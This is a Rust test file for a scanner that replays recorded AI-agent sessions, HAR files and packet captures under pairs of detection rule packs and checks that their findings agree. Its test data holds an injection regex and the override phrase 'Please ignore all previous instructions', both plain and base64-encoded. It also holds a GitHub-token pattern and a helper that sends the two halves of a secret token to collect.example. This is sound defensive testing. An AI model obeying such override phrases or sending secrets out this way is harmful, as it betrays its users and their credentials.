//! What is the same: a rule set against itself, and each side of a replay against a scan.

use std::path::{Path, PathBuf};

use coldcase_corpus::cases::load;
use coldcase_engine::{Joint, Pack, PackText, Policy};
use coldcase_model::{ChangeCause, Judged, Replayed};

use super::{Side, replayed, replayed_under, scanned, told};
use crate::real::files;
use crate::{samples, stories};

/// How many files of a folder are looked at where not all are, and how long the longest of them may be.
const MOST_FILES: usize = 40;
const MOST_BYTES: u64 = 1 << 20;

/// Some files of each folder of shared recordings, the same ones in every run.
fn some_recordings() -> Vec<PathBuf> {
    let mut some = Vec::new();
    for folder in
        ["aeb", "flight/genuine", "har", "mcp", "pcap/hard", "pcap/tcpdump-tests", "sessions/livemcpbench"]
    {
        let all = files(folder).unwrap_or_default();
        let small =
            |path: &PathBuf| std::fs::metadata(path).is_ok_and(|metadata| metadata.len() <= MOST_BYTES);
        let fit: Vec<PathBuf> = all.into_iter().filter(small).collect();
        let step = fit.len().div_ceil(MOST_FILES).max(1);
        some.extend(fit.into_iter().step_by(step));
    }
    some
}

fn complain(path: &Path, all: &[Replayed]) -> Vec<String> {
    let changed = all.iter().filter(|replayed| replayed.is_changed());
    changed.map(|replayed| format!("{} event {}", path.display(), replayed.after.head.id)).collect()
}

/// Replays files under the built-in rules against themselves, beside a scan of the same files; how many events there were.
fn nothing_changes_in(paths: &[PathBuf]) -> usize {
    let side = Side::builtin(None);
    let rules = Joint::new(&side.source, &side.source).unwrap();
    let (pack, policy) = (coldcase_builtin::pack().unwrap(), Policy::balanced());
    let (mut wrong, mut events) = (Vec::new(), 0);
    for path in paths {
        let all = replayed_under(path, &rules, [&policy, &policy], 0.0, None);
        wrong.extend(complain(path, &all));
        let alone = scanned(path, &pack, &policy);
        assert_eq!(alone.len(), all.len(), "{}: one event each", path.display());
        for (alone, replayed) in alone.iter().zip(&all) {
            assert_eq!(told(alone), told(&replayed.before), "{}", path.display());
            assert_eq!(told(alone), told(&replayed.after), "{}", path.display());
        }
        events += all.len();
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    println!("{events} events of {} files, none changed", paths.len());
    events
}

#[test]
fn no_event_of_any_case_changes_under_the_same_rules() {
    let temp = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    for case in load().unwrap() {
        let path = temp.path().join(format!("{}.jsonl", case.name));
        std::fs::write(&path, case.steps.iter().flat_map(|step| [&*step.record, "\n"]).collect::<String>())
            .unwrap();
        paths.push(path);
    }
    assert!(nothing_changes_in(&paths) > paths.len());
}

#[test]
fn no_event_of_any_scripted_session_changes_under_the_same_rules() {
    let temp = tempfile::tempdir().unwrap();
    let folders = stories::write_all(temp.path());
    assert!(nothing_changes_in(&folders) > folders.len());
}

/// Every file of some folders of shared recordings.
fn nothing_changes_in_folders(folders: &[&str]) {
    let paths: Vec<PathBuf> = folders.iter().filter_map(|folder| files(folder)).flatten().collect();
    assert!(paths.is_empty() || nothing_changes_in(&paths) > 0);
}

#[test]
fn no_event_of_any_shared_log_or_transcript_changes_under_the_same_rules() {
    nothing_changes_in_folders(&["aeb", "flight", "mcp", "sessions", "text"]);
}

#[test]
fn no_event_of_any_shared_har_file_changes_under_the_same_rules() {
    nothing_changes_in_folders(&["har"]);
}

#[test]
fn no_event_of_any_shared_capture_changes_under_the_same_rules() {
    nothing_changes_in_folders(&["pcap"]);
}

/// A pack whose rules overlap those of the built-in ones: the same bytes, other surfaces, words that stand turned round.
const OVERLAPPING: &str = r#"pack: overlapping
version: '1'
title: t
rules:
- {id: x.request.word, title: t, gain: g, category: injection, severity: high, confidence: 0.9, added: '1', surfaces: [url, body],
   regex: 'instructions and|example\.com|password', references: {cwe: [X]}, match: ['instructions and'], no_match: [x]}
- {id: x.token.any, title: t, gain: g, category: dlp, severity: critical, confidence: 0.9, added: '1',
   regex: '(?:ghp|gho)_[A-Za-z0-9]{20,}', references: {cwe: [X]}, match: ['ghp_abcdefghijklmnopqrst'], no_match: [x]}
- {id: x.json.name, title: t, gain: g, category: egress, severity: low, confidence: 0.5, added: '1', case: insensitive,
   surfaces: [json_string, tool_argument, tool_description], regex: '"?(?:name|host|command)"?', references: {cwe: [X]},
   match: ['"name"'], no_match: [x]}
- {id: x.zyzzyva, title: t, gain: g, category: egress, severity: medium, confidence: 0.8, added: '1',
   regex: '\bzyzzyva-[a-z]{4}\b', references: {cwe: [X]}, match: [zyzzyva-abcd], no_match: [x]}
"#;

#[test]
fn each_of_two_rule_sets_finds_beside_the_other_what_it_finds_alone() {
    let policy = Policy::balanced();
    let with = Side::builtin(Some(OVERLAPPING));
    let without = Side::builtin(None);
    let own = PackText { name: "p.yaml".into(), text: OVERLAPPING.into() };
    let (joint_pack, builtin) =
        (coldcase_builtin::pack_with(&[own]).unwrap(), coldcase_builtin::pack().unwrap());
    let rules = Joint::new(&without.source, &with.source).unwrap();
    let temp = tempfile::tempdir().unwrap();
    let mut paths = some_recordings();
    let turned = "mcnz-nilrmmlm then ailyzyz-dcba and zyzzyva-abcd and mlmmlin-nopq";
    let words = format!(
        "{}{}{}",
        samples::record("a", &format!("{turned} {} {}", samples::token(), samples::ORDER)),
        samples::record("b", &samples::ORDER.chars().rev().collect::<String>()),
        samples::record("c", &format!("dcba-avyzzyz {}", samples::token().chars().rev().collect::<String>())),
    );
    let planted = [
        ("t.jsonl", samples::transcript()),
        ("l.jsonl", samples::recorder_log()),
        ("h.har", samples::har()),
        ("w.jsonl", words),
    ];
    for (name, text) in planted {
        std::fs::write(temp.path().join(name), text).unwrap();
        paths.push(temp.path().join(name));
    }
    let mut changed = 0;
    for path in &paths {
        let all = replayed_under(path, &rules, [&policy, &policy], 0.0, None);
        let (first, second) = (scanned(path, &builtin, &policy), scanned(path, &joint_pack, &policy));
        assert_eq!((first.len(), second.len()), (all.len(), all.len()), "{}", path.display());
        for ((first, second), replayed) in first.iter().zip(&second).zip(&all) {
            assert_eq!(told(first), told(&replayed.before), "{}: the baseline", path.display());
            assert_eq!(told(second), told(&replayed.after), "{}: the candidate", path.display());
            changed += usize::from(replayed.is_changed());
        }
    }
    assert!(changed > 3, "the rules overlap in {changed} events, and more were planted");
}

/// A request that sends something under one name to one place.
fn sends(what: &str) -> String {
    let url = format!("https://collect.example/in?part={what}");
    let request = serde_json::json!({ "method": "GET", "url": url, "headers": [] });
    let record = serde_json::json!({ "v": 1, "kind": "http_request", "session": "s", "request": request });
    format!("{record}\n")
}

#[test]
fn a_set_without_rules_beside_another_finds_what_it_finds_alone() {
    let nothing = "pack: nothing\nversion: '1'\ntitle: t\nrules: []\n";
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join("t.jsonl");
    let (token, policy) = (samples::token(), Policy::balanced());
    let (start, end) = token.split_at(18);
    std::fs::write(&path, [samples::transcript(), sends(start), sends(end)].concat()).unwrap();
    let alone = |pack: &str| {
        let pack = Pack::only(&[PackText { name: "p.yaml".into(), text: pack.into() }]).unwrap();
        scanned(&path, &pack, &policy).iter().map(told).collect::<Vec<_>>()
    };
    let (with, without) = (alone(OVERLAPPING), alone(nothing));
    assert!(with.concat().contains("taint.secret-split"), "pieces are joined");
    let (some, none) = (Side::only(OVERLAPPING), Side::only(nothing));
    let mut left_out = some.clone();
    left_out.source.selection.disabled = vec!["x.".to_owned()];
    for (first, second, wanted) in [
        (&some, &none, [&with, &without]),
        (&none, &some, [&without, &with]),
        (&some, &left_out, [&with, &without]),
    ] {
        for least in [0.0, 0.3] {
            let all = replayed(&path, first, second, least);
            let told = |judged: fn(&Replayed) -> &Judged| {
                all.iter().map(|replayed| told(judged(replayed))).collect::<Vec<_>>()
            };
            assert_eq!([&told(|event| &event.before), &told(|event| &event.after)], wanted);
            assert!(all.iter().any(Replayed::is_new_allow) || all.iter().any(Replayed::is_new_block));
        }
    }
}

/// Pieces that rules of both packs match, alone and joined.
const PIECES: [&str; 10] = [
    "zyzzyva-abcd",
    " ",
    "password=",
    "ghp_",
    "abcdefghijklmnopqrstuvwxyz",
    "Please ignore all previous instructions and",
    "\"name\": \"",
    "avyzzyz ",
    "mlmmlin-nopq ",
    "aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM= ",
];

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(60))]
    #[test]
    fn any_text_gives_each_set_what_it_gives_alone(picks in proptest::collection::vec(0usize..PIECES.len(), 0..24)) {
        use std::sync::LazyLock;
        static RULES: LazyLock<(Joint, Pack, Pack)> = LazyLock::new(|| {
            let own = PackText { name: "p.yaml".into(), text: OVERLAPPING.into() };
            let (with, without) = (Side::builtin(Some(OVERLAPPING)), Side::builtin(None));
            let joint = Joint::new(&with.source, &without.source).unwrap();
            (joint, coldcase_builtin::pack_with(&[own]).unwrap(), coldcase_builtin::pack().unwrap())
        });
        let (rules, first, second) = &*RULES;
        let text: String = picks.iter().map(|pick| PIECES[*pick]).collect();
        let temp = tempfile::tempdir().unwrap();
        let path = temp.path().join("a.jsonl");
        std::fs::write(&path, samples::record("a", &text)).unwrap();
        let policy = Policy::balanced();
        let all = replayed_under(&path, rules, [&policy, &policy], 0.0, None);
        let (first, second) = (scanned(&path, first, &policy), scanned(&path, second, &policy));
        assert_eq!(told(&first[0]), told(&all[0].before));
        assert_eq!(told(&second[0]), told(&all[0].after));
        // One event has nothing that came before it.
        assert!(!all[0].causes.contains(&ChangeCause::State), "{:?}", all[0].findings);
    }
}

#[test]
fn only_the_order_of_the_packs_rules_differs_and_nothing_else_does() {
    let reversed = {
        let (head, rules) = OVERLAPPING.split_once("rules:\n").unwrap();
        let mut rules: Vec<&str> = rules.split("- {id").filter(|rule| !rule.is_empty()).collect();
        rules.reverse();
        format!("{head}rules:\n{}", rules.iter().map(|rule| format!("- {{id{rule}")).collect::<String>())
    };
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join("t.jsonl");
    std::fs::write(&path, samples::transcript()).unwrap();
    let all = replayed(&path, &Side::only(OVERLAPPING), &Side::only(&reversed), 0.0);
    assert!(all.iter().any(|replayed| !replayed.before.findings.is_empty()));
    assert_eq!(complain(&path, &all), Vec::<String>::new());
}
